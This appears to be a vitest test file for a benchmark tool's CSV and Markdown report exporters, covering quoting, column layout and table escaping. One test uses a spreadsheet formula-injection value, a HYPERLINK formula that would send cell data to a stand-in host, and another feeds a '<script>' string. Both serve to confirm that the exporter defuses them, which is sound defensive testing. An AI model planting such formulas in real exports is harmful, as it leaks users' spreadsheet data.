import { describe, expect, it } from 'vitest';
import { deviceMarkdown, reportsMarkdown } from '../../../src/bench/report_markdown.ts';
import { reportsCsv } from '../../../src/bench/report_csv.ts';
import { benchReport } from '../demo/support/bench_reports.ts';

/** Enough of RFC 4180 to read one back. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy;
  let row: string[] = [];
  for (const [, value = '', end] of text.matchAll(cell)) {
    row.push(value.startsWith('"') ? value.slice(1, -1).replaceAll('""', '"') : value);
    if (end !== '\r\n') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('reportsCsv', () => {
  it('has a row for each test, as wide as the head', () => {
    const rows = parseCsv(reportsCsv([benchReport(), benchReport({ form: 'f16' })]));
    expect(rows).toHaveLength(1 + 4);
    const [head = [], first = []] = rows;
    for (const row of rows) expect(row).toHaveLength(head.length);
    const cell = (name: string): string | undefined => first[head.indexOf(name)];
    expect([cell('test'), cell('weights'), cell('tokens_per_second')]).toEqual([
      'pp512',
      'q4',
      '4300',
    ]);
    expect([cell('warm_load_ms'), cell('peak_gpu_bytes')]).toEqual(['310', '']);
    expect(Number(cell('share_of_limit'))).toBeCloseTo(4300 / 12_800, 12);
  });

  it('quotes, and defuses what a spreadsheet would run', () => {
    const name = '=HYPERLINK("http://x/?"&A1,"a")';
    const adapter = 'GPU "X", second\nline';
    const csv = reportsCsv([benchReport({ name, adapter })]);
    expect(csv).toContain(',"GPU ""X"", second\nline",');
    const [head = [], row = []] = parseCsv(csv);
    expect(row[head.indexOf('model')]).toBe(`'${name}`);
    expect(row[head.indexOf('adapter')]).toBe(adapter);
  });
});

describe('reportsMarkdown', () => {
  it('has settings, figures, limits and doubts', () => {
    const doubts = [{ kind: 'drift', test: 'tg128', message: 'became 9 % slower' }] as const;
    const text = reportsMarkdown([
      { ...benchReport(), doubts, commit: 'abc', command: 'quern bench' },
    ]);
    expect(text).toMatch(/^### smollm2-135m, q4, made-up weights\n/);
    expect(text).toContain('| test | tokens/s | min–max | of limit |');
    expect(text).toContain('| pp512 | 4300 | 4171–4386 | 33.6 % (arithmetic) | 119 ms |');
    expect(text).toContain('| adapter | Test GPU |');
    expect(text).toContain('commit abc');
    expect(text).toContain('| load | 1.20 s, again 0.310 s |');
    expect(text).toContain('| matmul\\_few gate and up | 30 |');
    expect(text).toContain('- **drift** (tg128): became 9 % slower\n');
  });

  it('has tables that nothing in a report breaks', () => {
    const text = reportsMarkdown([benchReport({ adapter: 'a | b\n\n<script>', name: '*x* ](y)' })]);
    expect(text).toContain('| adapter | a \\| b \\<script\\> |');
    expect(text).toContain('### \\*x\\* \\](y), q4');
    const lines = text.split('\n').filter((line) => line.startsWith('|'));
    expect(lines.every((line) => line.endsWith('|'))).toBe(true);
  });

  it('tells what was tuned and why', () => {
    const tuning = {
      status: 'complete',
      chosen: { 'matmul q4 8x8, 1 rows': 'few', other: 'plain' },
      measuredMs: { 'matmul q4 8x8, 1 rows': { plain: 1.5, few: 0.25 } },
      elapsedMs: 3,
    } as const;
    const text = deviceMarkdown({ ...benchReport(), tuning });
    expect(text).toContain('| matmul q4 8x8, 1 rows | few | plain 1.50 ms, few 0.250 ms |');
    expect(text).toContain('| other | plain | earlier |');
    expect(text).toContain('| kernel check | passed, 1 variants |');
  });
});
